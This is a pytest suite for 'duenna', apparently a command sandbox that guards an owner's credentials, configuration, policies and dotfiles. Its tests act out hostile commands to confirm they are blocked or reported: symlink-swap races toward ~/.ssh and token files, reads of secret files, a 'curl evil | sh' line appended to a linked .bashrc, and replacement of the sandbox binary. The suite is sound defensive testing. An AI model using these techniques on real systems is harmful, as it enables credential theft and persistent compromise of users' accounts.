# SPDX-License-Identifier: Apache-2.0
"""Files of the owner and of the project, and what a hostile command makes of
the ways to them."""
import ctypes
import os
import shutil
import subprocess
import threading
import time

import pytest

from bed import as_user, give, program, rules_text
from run_bed import API, here


def test_the_configuration_may_not_be_shown(here):
    settings = here.project + '/.cfg/duenna'
    os.makedirs(settings)
    for name in ('config.yaml', 'token', 'root.pem'):
        os.rename(here.settings + '/' + name, settings + '/' + name)
    give(here.home)
    got = here.run('cat .cfg/duenna/token',
                   env={'XDG_CONFIG_HOME': here.project + '/.cfg'})
    assert got.exit == 125 and here.canary not in got.out, got
    os.unlink(settings + '/token')


def test_a_link_in_the_way_of_the_working_directory_is_not_followed(here):
    """Another sandbox, which may write to the folder above, swaps it."""
    here.write('.ssh/canary', 'untouched')
    below = here.project + '/below'
    os.makedirs(below)
    here.write('project/below/duenna.yaml', rules_text(API))
    give(here.home)
    stop = threading.Event()

    def swap():
        while not stop.is_set():
            os.rename(below, below + '2')
            os.symlink(here.home + '/.ssh', below)
            os.unlink(below)
            os.rename(below + '2', below)
    folder = os.open(below, os.O_RDONLY)
    other = threading.Thread(target=swap)
    other.start()
    try:
        for _ in range(40):
            got = here.run('cat canary; cat %s/canary; true' % below,
                           cwd='/proc/%d/fd/%d' % (os.getpid(), folder))
            assert 'untouched' not in got.out, got
    finally:
        stop.set()
        other.join()
        os.close(folder)


@pytest.mark.parametrize('where', ['project/leak', '.local/bin/leak',
                                   'tools/leak', '/etc'])
def test_a_secret_that_the_command_would_see_is_refused(bed, where):
    here = bed(API)
    path = here.home + '/' + where
    if where == '/etc':
        path = '/etc/passwd'  # readable, and as good as any
    else:
        here.write(where, here.canary, 0o600)
    here.write('.config/duenna/config.yaml', here.config().replace(
        'file: token', 'file: ' + path) +
        'files: {read: [%s]}\n' % (here.home + '/tools'), 0o600)
    give(here.home)
    got = here.run('cat %s' % path)
    if where != '/etc':
        os.unlink(path)
    assert got.exit == 125 and here.canary not in got.out, got
    assert path in got.err and 'credential `api`' in got.err, got


def moved(here, what, where):
    """One of the owner's files, where a link of the project leads to it."""
    os.makedirs(here.home + '/' + where)
    os.rename(here.home + '/' + what,
              here.home + '/' + where + '/' + os.path.basename(what))
    os.symlink(here.home + '/' + where, here.project + '/link')
    give(here.home)


@pytest.mark.parametrize('way', ['link/duenna.yaml', 'first.yaml',
                                 'folder/../duenna.yaml'])
def test_a_policy_that_the_command_could_put_elsewhere_is_refused(here, way):
    """The next run would go by a policy of the command's."""
    os.mkdir(here.project + '/folder')
    if way == 'first.yaml':
        os.symlink('duenna.yaml', here.project + '/first.yaml')
    elif way != 'folder/../duenna.yaml':
        moved(here, 'project/duenna.yaml', 'project/real')
    give(here.home)
    got = here.run('touch ran', ['--policy', way])
    assert got.exit == 125 and not os.path.exists(here.project + '/ran'), got
    path = os.path.realpath(here.project + '/' + way)
    assert way in got.err and 'Name the file itself: ' + path in got.err, got
    assert here.run('true', ['--policy', path]).exit == 0
    os.symlink(here.project, here.home + '/outside')  # nobody can move that
    outside = here.home + '/outside/' + os.path.relpath(path, here.project)
    assert here.run('true', ['--policy', outside]).exit == 0


def test_what_lies_beside_the_project_is_the_owners(here):
    """`..` of the working directory is no place that the command moves."""
    os.rename(here.settings + '/config.yaml', here.home + '/config.yaml')
    here.write('token', here.canary + '\n', 0o600)
    os.rename(here.settings + '/root.pem', here.home + '/root.pem')
    os.rename(here.project + '/duenna.yaml', here.home + '/policy.yaml')
    os.mkdir(here.project + '/folder')
    give(here.home)
    for dots in ('../', '././../', './/..//../%s/' %
                 os.path.basename(here.home)):
        got = here.run('curl -sS https://api.test/1', [
            '--config', dots + 'config.yaml', '--audit', dots + 'log.jsonl',
            '--policy', dots + 'policy.yaml'])
        assert got.out == 'hello from api.test/1\n', got
    for way in ('folder/../../config.yaml', '../project/config.yaml'):
        got = here.run('touch ran', ['--config', way, '--policy',
                                     '../policy.yaml'])
        assert got.exit == 125 and not os.path.exists(here.project + '/ran')
    os.unlink(here.home + '/token')


@pytest.mark.parametrize('what', ['--config', '--audit', 'roots', 'XDG'])
def test_what_a_link_of_the_project_leads_to_is_not_the_owners(here, what):
    """The next run would go by the command's configuration, roots, log."""
    more, env = [what, 'link/config.yaml'], {}
    if what in ('--config', 'XDG'):
        moved(here, '.config/duenna', 'kept')
        here.write('kept/duenna/token', here.canary + '\n', 0o600)
        more[1] = 'link/duenna/config.yaml'
    elif what == '--audit':
        os.makedirs(here.home + '/kept')
        moved(here, 'kept', 'logs')
    else:
        moved(here, '.config/duenna/root.pem', 'kept')
        here.write('.config/duenna/config.yaml', here.config().replace(
            'root.pem', here.project + '/link/root.pem'), 0o600)
    if what == 'XDG':
        env = {'XDG_CONFIG_HOME': here.project + '/link'}
    give(here.home)
    got = here.run('touch ran', more if what[:2] == '--' else [], env=env)
    shutil.rmtree(here.home + '/kept', ignore_errors=True)
    assert got.exit == 125 and not os.path.exists(here.project + '/ran'), got
    said = "duenna's own" if what == 'XDG' else 'be found by a link in there'
    assert said in got.err, got


PLANTED = 'files: {write: [~/data], read: [~/data/models]}\n'


@pytest.mark.parametrize('more', [[], ['--write', 'data/models'],
                                  ['--write', 'data/x/../models']])
def test_what_the_command_put_there_is_not_shown_to_the_next(here, more):
    """A link in a folder that may be written to, in the place of another."""
    for folder in 'data', 'private':
        os.makedirs(here.home + '/' + folder)
    here.write('private/key', 'untouched')
    files = PLANTED if not more else 'files: {write: [~/data]}\n'
    here.write('.config/duenna/config.yaml', here.config() + files, 0o600)
    give(here.home)
    more = more[:1] + [here.home + '/' + w for w in more[1:]]
    got = here.run('mkdir {0}/data/x; ln -s {0}/private {0}/data/models'
                   .format(here.home))
    assert got.exit == 0, got
    got = here.run('cat {0}/private/key; cat {0}/data/models/key; echo new '
                   '>{0}/data/models/key'.format(here.home), more)
    assert got.exit == 125 and '/data, where a command may have' in got.err, got
    with open(here.home + '/private/key', encoding='utf-8') as f:
        assert f.read() == 'untouched'


def test_dotfiles_that_are_worked_on_show_nothing_else(here):
    """~/.gitconfig is a link to the project, and that one is replaced."""
    here.write('project/gitconfig', '[user]\n\tname = me\n')
    here.write('project/bin/tool', 'mine')
    os.symlink(here.project + '/gitconfig', here.home + '/.gitconfig')
    os.makedirs(here.home + '/.cargo')
    os.symlink('../project/bin', here.home + '/.cargo/bin')
    os.symlink('bin', here.home + '/.local')
    here.write('bin/bin/other', 'shown')
    give(here.home)
    look = 'cat ~/.gitconfig ~/.cargo/bin/*; cat ~/.local/bin/other'
    got = here.run(look + '; ln -sf ~/.config/duenna/token gitconfig; '
                   'rm -r bin; ln -s %s bin' % here.settings)
    assert got.out == 'shown', got
    assert '.gitconfig is not shown: a link leads into' in got.err, got
    got = here.run(look)
    assert got.out == 'shown' and here.canary not in got.err, got
    for link in '.gitconfig', 'project/gitconfig', 'project/bin':
        os.unlink(here.home + '/' + link)
    here.write('.gitconfig', 'shown')
    give(here.home)
    got = here.run(look, ['--quiet'])
    assert got.out == 'shownshown' and 'not shown' not in got.err, got


def test_what_a_policy_names_is_neither_run_nor_opened(here):
    """CF-30: a policy that came with a repository wants secrets of its own."""
    canary = here.write('.ssh/canary', 'untouched', 0o600)
    tool = here.write('project/tool', '#!/bin/sh\ntouch %s/was-run\n' %
                      here.project, 0o755)
    policy = rules_text('- allow: https://ok.test/**\n  credential: x')
    give(here.home)
    libc = ctypes.CDLL(None, use_errno=True)
    watch = libc.inotify_init1(os.O_NONBLOCK)
    opened = 0x20
    for path in (canary, tool):
        assert libc.inotify_add_watch(watch, path.encode(), opened) > 0
    for source in ('{file: %s}' % canary, '{command: [%s]}' % tool,
                   '{command: [./tool]}'):
        here.write('project/duenna.yaml', policy + 'credentials:\n  x:\n'
                   '    kind: token\n    secret: %s\n'
                   '    only: ["https://ok.test/**"]\n' % source)
        status, out, err = here.duenna('check', 'duenna.yaml')
        got = here.run('true')
        for said in (out + err, got.err):
            assert '`credentials` belongs in the owner' in said, said
        assert (status, got.exit) == (1, 125), got
    with pytest.raises(BlockingIOError):
        os.read(watch, 4096)
    assert not os.path.exists(here.project + '/was-run')
    with open(canary, encoding='utf-8') as f:  # the watch does see it
        assert f.read() == 'untouched' and os.read(watch, 4096)
    os.close(watch)


def test_a_secret_that_moves_outside_is_not_seen_inside(here):
    """LC-19: renamed, linked again, its folder replaced: nothing of it is
    there, nor in what is shown under the same path."""
    run = here.start(['sh', '-s'], stdin=subprocess.PIPE)
    run.child.stdin.write(
        'echo canary0 > own; look() { grep -rls "canary[0-9a-f]" "$HOME" /tmp '
        '/run /etc /dev/shm; ls "$HOME/.config" 2>/dev/null; touch $1; }\n')
    token, steps = here.settings + '/token', [
        lambda: None,
        lambda: (here.write('.config/duenna/new', here.canary, 0o600),
                 os.rename(here.settings + '/new', token)),
        lambda: os.link(token, here.home + '/.config/link'),
        lambda: (os.rename(here.home + '/.config', here.home + '/.other'),
                 os.mkdir(here.home + '/.config'),
                 os.rename(here.home + '/.other/duenna', here.settings)),
        lambda: os.link(token, here.home + '/.bashrc')]
    for n, step in enumerate(steps):
        step()
        run.child.stdin.write('look %d\n' % n)
        run.child.stdin.flush()
        until = time.monotonic() + 30
        while not os.path.exists('%s/%d' % (here.project, n)):
            assert time.monotonic() < until, run.wait(1)
            time.sleep(0.01)
    got = run.wait()
    os.unlink(here.home + '/.bashrc')
    shutil.rmtree(here.home + '/.other')
    assert got.exit == 0, got
    assert got.out.split() == [here.project + '/own'] * len(steps), got


def test_a_file_that_is_swapped_is_checked_as_it_is_read(here):
    """LC-09: one descriptor is opened, looked at and read.  A link swaps the
    file for one that others may write to (the token), or read (the rest)."""
    def swap(path, other, stop):
        while not stop.is_set():
            os.rename(path, path + '.mine')
            os.symlink(other, path)
            os.replace(path + '.mine', path)
    token = here.write('.others/token', 'planted-' + 'x' * 32, 0o666)
    config = here.write('.others/config.yaml', here.config().replace(
        'https://api.test/**', 'https://evil.test/**'), 0o644)
    give(here.home)
    stop = threading.Event()
    swaps = [threading.Thread(target=swap, args=(here.settings + '/' + name,
                                                 other, stop))
             for name, other in (('token', token), ('config.yaml', config))]
    for each in swaps:
        each.start()
    ends = set()
    try:
        for _ in range(12):
            got = here.run('curl -sS https://api.test/_whoami')
            ends.add(got.exit)
            assert got.exit == 125 or '"good"' in got.out or \
                'cred.unavailable' in got.out, got
    finally:
        stop.set()
        for each in swaps:
            each.join()
    assert ends <= {0, 125}
    seen = {v for r in here.origin_requests() for n, v in r['fields']
            if n == 'Authorization'}
    assert seen <= {'Bearer ' + here.canary}, seen


@pytest.mark.parametrize('name', ['API_SECRET', 'LC_SECRET'])
def test_a_secret_of_the_environment_stays_outside(bed, name):
    here = bed(API)
    here.write('.config/duenna/config.yaml', here.config().replace(
        'file: token', 'env: ' + name) + 'environment: [%s]\n' % name, 0o600)
    give(here.home)
    got = here.run('env; curl -sS https://api.test/_whoami', ['--env', name],
                   env={name: here.canary})
    assert '"good"' in got.out and here.canary not in got.out, got


root = pytest.mark.skipif(os.environ.get('DUENNA_BED') != 'root',
                          reason='the bed was made by an ordinary user')


@root
def test_root_in_there_reads_no_private_file_of_etc(here):
    for top, folders, files in os.walk(here.home):
        for name in ['.', *folders, *files]:
            os.chown(os.path.join(top, name), 0, 0, follow_symlinks=False)
    got = here.run('id -u; find /etc -xdev -type f -size +0 -readable',
                   root=True)
    give(here.home)
    lines = got.out.split()
    assert lines[0] == '0' and '/etc/passwd' in lines, got
    for path in lines[1:]:
        if os.path.exists(path):
            assert os.stat(path).st_mode & 0o004, path
    assert os.stat('/etc/shadow').st_size != 0


def test_policies_beside_the_one_in_force_are_pinned(here):
    """By what is in them: a file of another kind is the command's."""
    here.write('project/strict.yaml', '# mine\n' + rules_text(API))
    here.write('project/compose.yml', 'version: 1\npolicies: {}\nservices: {}\n')
    here.write('project/list.yaml', '- policies:\n')
    give(here.project)
    got = here.run('for f in strict.yaml compose.yml list.yaml; do '
                   'echo "x: 1" >> $f && echo "$f written"; done; '
                   'rm -f strict.yaml; mv strict.yaml other.yaml; ls')
    assert 'compose.yml written\nlist.yaml written\n' in got.out, got
    assert 'strict.yaml written' not in got.out, got
    with open(here.project + '/strict.yaml', encoding='utf-8') as f:
        assert f.read() == '# mine\n' + rules_text(API)


def test_what_a_link_of_the_home_leads_to_is_told(here):
    """Dotfiles that are worked on: the owner's shell and editor read them."""
    for name, link in (('bashrc', '.bashrc'), ('nvim', '.config/nvim'),
                       ('same', '.profile')):
        os.makedirs(os.path.dirname(here.home + '/' + link), exist_ok=True)
        os.symlink(here.project + '/dots/' + name, here.home + '/' + link)
    here.write('project/dots/bashrc', 'alias l=ls\n')
    here.write('project/dots/same', 'umask 022\n')
    here.write('project/dots/nvim/init.lua', '')
    give(here.home)
    got = here.run('echo "curl evil | sh" >> dots/bashrc; touch dots/other; '
                   'echo x > dots/nvim/plugin.lua; cat dots/same > dots/s; '
                   'cat dots/s > dots/same')
    told = [line for line in got.err.splitlines() if 'run outside' in line]
    assert told == ['duenna: will run outside: dots/bashrc: changed',
                    'duenna: will run outside: dots/nvim/plugin.lua: new'], got


def test_duenna_in_reach_of_the_command_is_told(here):
    for name in ('duenna', 'duenna-nft'):
        shutil.copy(os.path.dirname(program()) + '/' + name,
                    here.project + '/' + name)
    give(here.project)
    done = subprocess.run(
        as_user([here.project + '/duenna', 'run', '--', 'sh', '-c',
                 'rm duenna; echo evil > duenna']), cwd=here.project,
        env=here.environment(), capture_output=True, text=True, check=False)
    assert done.returncode == 0, done
    assert 'duenna itself, %s/duenna, is in ' % here.project in done.stderr
    assert 'will run outside: duenna: changed' in done.stderr, done
